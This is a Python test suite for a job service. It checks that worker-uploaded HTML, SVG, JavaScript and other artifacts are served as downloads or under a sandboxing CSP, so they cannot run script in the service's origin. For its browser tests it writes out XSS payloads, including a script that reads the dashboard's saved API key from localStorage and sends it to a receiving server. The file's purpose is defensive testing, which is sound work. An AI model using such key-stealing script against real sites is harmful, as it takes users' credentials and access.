"""Stored XSS through artifacts: nothing a worker stores may run script in the service's origin.

An HTML (or SVG) artifact rendered by the service's origin could load a JavaScript artifact
(the dashboard's CSP allows scripts from 'self'), read the dashboard's saved key from
localStorage and call the API with it. Artifacts are served so that no browser runs them.
"""

import asyncio
import contextlib
from urllib.parse import quote

import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer
from playwright.async_api import Error as PlaywrightError

from tests.service.helpers import ok
from tests.ui.helpers import browser_page

INLINE_TEXT = "text/plain; charset=utf-8"
DOWNLOAD = "application/octet-stream"


async def _tracked_job(client) -> dict:
    job = await ok(await client.post("/jobs", json={"type": "report"}), 201)
    return await ok(await client.post(f"/jobs/{job['id']}/start"))


async def _add(client, job: dict, name: str, content_type: str, data) -> str:
    await ok(await client.post(f"/jobs/{job['id']}/artifacts", json={"name": name, "content_type": content_type, "data": data}))
    return f"/jobs/{job['id']}/artifacts/{quote(name, safe='')}"


@pytest.mark.parametrize(
    ("content_type", "served", "disposition"),
    [
        ("text/html", DOWNLOAD, "attachment"),
        ("text/html; charset=utf-8", DOWNLOAD, "attachment"),
        ("TEXT/HTML", DOWNLOAD, "attachment"),
        ("image/svg+xml", DOWNLOAD, "attachment"),  # SVG runs script: never inline
        ("application/pdf", DOWNLOAD, "attachment"),  # so may a PDF viewer
        ("text/javascript", DOWNLOAD, "attachment"),  # nosniff: never run as a script
        ("application/xhtml+xml", DOWNLOAD, "attachment"),
        ("text/xml", DOWNLOAD, "attachment"),
        ("text/plain", INLINE_TEXT, "inline"),
        ("text/csv", INLINE_TEXT, "inline"),
        ("text/markdown", INLINE_TEXT, "inline"),
        ("image/png", "image/png", "inline"),
    ],
)
async def test_only_types_that_cannot_run_script_are_shown_inline(client, content_type, served, disposition):
    """Defends against an artifact rendered as a document of the service's origin (HTML, SVG, XML, PDF)."""
    job = await _tracked_job(client)
    data = "<script>alert(document.domain)</script>"
    resp = await client.get(await _add(client, job, "out", content_type, data))

    assert resp.status == 200 and resp.headers["Content-Type"] == served
    assert resp.headers["Content-Disposition"].startswith(f"{disposition}; filename=")
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    assert {"sandbox", "default-src 'none'"} <= {d.strip() for d in resp.headers["Content-Security-Policy"].split(";")}
    assert await resp.text() == data


async def test_json_artifacts_are_json_and_sandboxed_too(client):
    """Defends the JSON case: served as JSON, never as a document, with the same sandbox."""
    job = await _tracked_job(client)
    resp = await client.get(await _add(client, job, "summary", "application/json", {"html": "<script>x()</script>"}))
    assert resp.headers["Content-Type"] == "application/json" and resp.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in resp.headers["Content-Security-Policy"]
    assert await resp.json() == {"html": "<script>x()</script>"}


async def test_a_download_keeps_the_artifacts_name(client):
    """The name is the worker's text: quoted in the header, so it cannot add header fields."""
    job = await _tracked_job(client)
    resp = await client.get(await _add(client, job, 'résumé "v2".html', "text/html", "<p>hi</p>"))
    disposition = resp.headers["Content-Disposition"]
    assert disposition == "attachment; filename=\"r_sum___v2_.html\"; filename*=UTF-8''r%C3%A9sum%C3%A9%20%22v2%22.html"


# -- in a real browser -----------------------------------------------------------------------------

STEAL = """
const key = localStorage.getItem("jobledger.apiKey");
localStorage.setItem("jobledger.pwned", "yes");
fetch("/jobs", {headers: {Authorization: "Bearer " + key}})
  .then((r) => r.text(), (e) => "refused " + e)
  .then((jobs) => { location.href = "%(receiver)s?key=" + encodeURIComponent(key) + "&jobs=" + jobs.length; });
"""
HTML = '<!doctype html><title>report</title><p>Report</p><script src="%(js)s"></script><script>%(inline)s</script>'
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    '<script xlink:href="%(js)s"/><script>%(inline)s</script></svg>'
)
SAVED_KEY = "jl_saved_dashboard-key"


@contextlib.asynccontextmanager
async def _receiver():
    """A server on another port that records what a script that ran would send it."""
    hits: list[dict[str, str]] = []

    async def hit(request: web.Request) -> web.Response:
        hits.append(dict(request.query))
        return web.Response(text="got it")

    app = web.Application()
    app.router.add_get("/hit", hit)
    server = TestServer(app)
    await server.start_server()
    try:
        yield str(server.make_url("/hit")), hits
    finally:
        await server.close()


async def _artifacts(client, receiver: str) -> dict[str, str]:
    job = await _tracked_job(client)
    steal = STEAL % {"receiver": receiver}
    js = await _add(client, job, "steal.js", "text/javascript", steal)
    return {
        "html": await _add(client, job, "report.html", "text/html", HTML % {"js": js, "inline": steal}),
        "svg": await _add(client, job, "chart.svg", "image/svg+xml", SVG % {"js": js, "inline": steal}),
        "js": js,
    }


async def _save_key_in_dashboard(page) -> None:
    await page.goto("/ui/")
    await page.fill("#api-key", SAVED_KEY)
    await page.click("#api-key-form button")
    assert await page.evaluate("localStorage.getItem('jobledger.apiKey')") == SAVED_KEY


async def _nothing_ran(page, hits: list) -> None:
    await asyncio.sleep(1.5)  # a script that ran reports within milliseconds
    assert hits == []
    await page.goto("/ui/")
    assert await page.evaluate("localStorage.getItem('jobledger.pwned')") is None


@pytest.mark.parametrize("backend", ["sqlite"])  # the browser's side: one backend is enough
@pytest.mark.parametrize("kind", ["html", "svg"])
async def test_an_opened_artifact_cannot_read_the_saved_key_or_call_the_api(client, kind):
    """Defends against the issue's attack: an HTML or SVG artifact, opened in the browser where the
    dashboard saved its key, loads a JavaScript artifact that reads the key and fetches /jobs with it."""
    async with _receiver() as (receiver, hits), browser_page(str(client.make_url(""))) as page:
        urls = await _artifacts(client, receiver)
        await _save_key_in_dashboard(page)

        with contextlib.suppress(PlaywrightError):  # a download is not a page: "Download is starting"
            await page.goto(urls[kind])

        await _nothing_ran(page, hits)


@pytest.mark.parametrize("backend", ["sqlite"])
async def test_a_javascript_artifact_cannot_run_even_from_a_page_of_the_origin(client):
    """Defends the dashboard's own CSP (scripts from 'self'): were HTML ever injected into it, a
    JavaScript artifact still could not be its script."""
    async with _receiver() as (receiver, hits), browser_page(str(client.make_url(""))) as page:
        urls = await _artifacts(client, receiver)
        await _save_key_in_dashboard(page)

        outcome = await page.evaluate(
            """(src) => new Promise((resolve) => {
                 const script = document.createElement("script");
                 script.onload = () => resolve("loaded"); script.onerror = () => resolve("refused");
                 script.src = src; document.head.append(script);
               })""",
            urls["js"],
        )

        assert outcome == "refused"
        await _nothing_ran(page, hits)
